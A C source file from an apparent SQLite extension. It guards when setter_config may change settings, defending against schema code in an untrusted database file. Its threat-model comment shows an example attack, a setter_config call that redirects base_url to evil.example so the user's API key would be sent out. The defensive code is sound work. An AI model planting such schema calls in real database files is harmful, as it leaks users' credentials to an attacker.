/*
** guard.c - who may change a setting with setter_config(name, value).
**
** THE THREAT.  A database file someone sends you holds schema code: a CHECK
** constraint, a DEFAULT, a generated column, an index on an expression, a
** partial index, a trigger or a view that calls
**     setter_config('base_url', 'https://evil.example')
** and runs when you write to (or read) one of its tables.  If that changed
** the setting, your next query would send your API key to that server.
** api_key, api_key_file and ca_bundle are as bad (a key of the attacker's
** with a CA of the attacker's); the other settings can make queries fail,
** slow or stale.  Schema code must never change any setting.
**
** WHAT SQLITE DOES.  setter_config is SQLITE_DIRECTONLY (config.c), which
** the documentation says keeps a function out of all schema code.  SQLite
** 3.40.1 keeps it out of views, triggers and DEFAULT clauses always, and out
** of the rest only when the schema is read while setter_config exists (and
** only because the two-argument form is also DETERMINISTIC).  A schema read
** BEFORE the extension was loaded (the shell's .open then .load, a GUI that
** lists the tables first) runs setter_config from a CHECK constraint, a
** virtual or stored generated column, an index expression or a partial
** index (tests/test_guard.py prints which path is stopped by what).  So the
** flag is not enough, and nothing in SQLite's API says which expression, or
** which statement, called a function.
**
** THE RULE (sound, and on the safe side).  A change is allowed only when
**   1. exactly one statement of the connection is running
**      (sqlite3_stmt_busy): then that statement is the caller.  Schema code
**      runs inside the statement that fires it, and SQL run by a function
**      is a second running statement;
**   2. that statement names no table: its text (sqlite3_sql) starts with
**      SELECT or VALUES and holds no FROM and no IN word outside literals,
**      quoted names and comments.  Without FROM or IN a SELECT reads no
**      table, view or index, so it runs no CHECK, DEFAULT, generated
**      column, index or trigger: every setter_config call in it is written
**      in its own text;
**   3. it is read-only (sqlite3_stmt_readonly), as such a statement is.
** A statement prepared with the legacy sqlite3_prepare() has no text, and
** is refused.  config.c lets a refused call through when it would leave
** the setting as it is (it cannot redirect anything): DB4S runs each
** statement again as SELECT COUNT(*) FROM (...).  The cost: a change must be its own small statement, made
** while no other cursor of the connection is open
** (SELECT setter_config('api_key', ?) from Python, or with readfile() in
** the shell); reading settings is never restricted.
**
** The old guard (find a setter_config(name, ...) call in the text of ANY
** running statement) was a lexer of whole SQL used as the boundary: any
** unrelated busy statement that called setter_config(?, ?) opened the way.
** The lexer here only has to find words, and a mistake can only refuse.
*/
#include "guard.h"

#include <ctype.h>
#include <string.h>

SQLITE_EXTENSION_INIT3

/* SQLite's identifier characters (tokenize.c IdChar): ASCII letters and
** digits, '_', '$' and every byte >= 0x80. */
static int isWordChar(unsigned char c) {
  return isalnum(c) || c == '_' || c == '$' || c >= 0x80;
}

/* The end of the literal, quoted name or comment at z, or z itself when
** none starts there.  An unterminated one runs to the end, as in SQLite. */
static const char *skipQuotedOrComment(const char *z) {
  if (*z == '\'' || *z == '"' || *z == '`' || *z == '[') {
    char cClose = *z == '[' ? ']' : *z;
    for (z++; *z; z++) {
      if (*z != cClose) continue;
      if (cClose != ']' && z[1] == cClose) {
        z++; /* a doubled quote stays inside */
        continue;
      }
      return z + 1;
    }
    return z;
  }
  if (z[0] == '-' && z[1] == '-') {
    while (*z && *z != '\n') z++;
    return z;
  }
  if (z[0] == '/' && z[1] == '*') {
    for (z += 2; *z && !(z[0] == '*' && z[1] == '/'); z++) {
    }
    return *z ? z + 2 : z;
  }
  return z;
}

static int isWord(const char *z, size_t n, const char *zWord) {
  return n == strlen(zWord) && sqlite3_strnicmp(z, zWord, (int)n) == 0;
}

int setterGuardNamesNoTable(const char *z) {
  int nWord = 0;
  while (*z) {
    const char *zNext = skipQuotedOrComment(z);
    if (zNext != z) {
      /* X'..' is the word X then a literal: harmless either way */
      z = zNext;
      continue;
    }
    if (isWordChar((unsigned char)*z)) {
      const char *zWord = z;
      size_t n;
      while (isWordChar((unsigned char)*z)) z++;
      n = (size_t)(z - zWord);
      if (nWord++ == 0 && !isWord(zWord, n, "SELECT") && !isWord(zWord, n, "VALUES")) return 0;
      if (isWord(zWord, n, "FROM") || isWord(zWord, n, "IN")) return 0;
      continue;
    }
    z++;
  }
  return nWord > 0;
}

int setterGuardAllowsChange(sqlite3 *db) {
  sqlite3_stmt *pStmt = NULL, *pCaller = NULL;
  const char *zSql;
  while ((pStmt = sqlite3_next_stmt(db, pStmt)) != NULL) {
    if (!sqlite3_stmt_busy(pStmt)) continue;
    if (pCaller != NULL) return 0; /* two running: the caller is unknown */
    pCaller = pStmt;
  }
  if (pCaller == NULL || !sqlite3_stmt_readonly(pCaller)) return 0;
  zSql = sqlite3_sql(pCaller);
  return zSql != NULL && setterGuardNamesNoTable(zSql);
}
